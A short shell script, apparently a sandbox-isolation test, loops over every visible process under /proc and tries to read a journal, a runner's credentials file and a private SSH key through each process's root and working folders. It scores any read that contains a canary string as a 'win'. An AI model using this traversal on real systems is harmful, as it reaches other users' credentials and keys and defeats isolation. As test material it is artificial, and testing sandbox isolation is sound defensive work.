# Reads hidden files through the root folder and the working folder of every process that it can see.
for process in /proc/[0-9]*; do
  for folder in "$process/root" "$process/cwd"; do
    for file in "$RT/ralph/journal.jsonl" "$RUNNER/.credentials" "$RH/.ssh/id_ed25519"; do
      cat "$folder$file" 2>/dev/null | grep CANARY && won "read $folder$file"
    done
  done
done
